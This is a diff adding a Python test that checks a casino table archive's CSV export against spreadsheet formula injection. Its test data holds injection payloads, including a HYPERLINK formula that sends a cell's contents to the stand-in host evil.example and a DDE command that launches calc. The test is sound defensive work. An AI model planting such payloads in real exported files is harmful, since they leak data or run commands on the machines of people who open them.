@@ -323,6 +323,33 @@ def test_csv_rows_are_whole(site: str) -> None:
     ]
 
 
+def test_csv_text_a_spreadsheet_would_run_is_written_as_text(pg_url: str) -> None:
+    """A table's text (a void's reason, an alarm's message and action) is anyone's to write: a cell
+    starting ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading ``'`` so a spreadsheet shows it,
+    never runs it; numbers stay numbers."""
+    rows = ArchiveRows(pg_url)
+    rows.table("bac-09", "baccarat")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows.event("bac-09", t("03-01T13:00"), "alarm", MISREAD | {"message": "+cmd|' /C calc'!A0",
+                                                                "action": "@SUM(1+1)*cmd"}, 1)
+    rows.event("bac-09", t("03-01T13:01"), "void", {"round": 1, "reason": evil, "by": "pit"}, 1)
+    rows.event("bac-09", t("03-01T13:02"), "alarm", MISREAD | {"message": "\t=1+1", "action": "\r=1"}, 2)
+    rows.event("bac-09", t("03-01T13:03"), "void", {"round": 2, "reason": "-2+3", "by": "dealer"}, 2)
+    rows.event("bac-09", t("03-01T13:04"), "void", {"round": 3, "reason": "shoe misread", "by": "pit"}, 3)
+    rows.close()
+    out = io.StringIO()
+    assert write_csv(report(pg_url), "alarms", out) == 5
+    got = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
+    assert got[0] == ["table", "time", "seq", "round", "event", "severity", "code", "by", "reason", "action"]
+    alarm, void, alarm2, void2, plain = got[1:]
+    assert alarm[2:4] == ["1", "1"] and alarm[8:] == ["'+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd"]
+    assert void[2:4] == ["2", "1"] and void[7:9] == ["pit", "'" + evil]
+    assert alarm2[8:] == ["'\t=1+1", "'\r=1"]
+    assert void2[7:9] == ["dealer", "'-2+3"]
+    assert plain[7:9] == ["pit", "shoe misread"]
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in got for cell in row)
+
+
 # -- the command, end to end ------------------------------------------------------------------
 
 def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
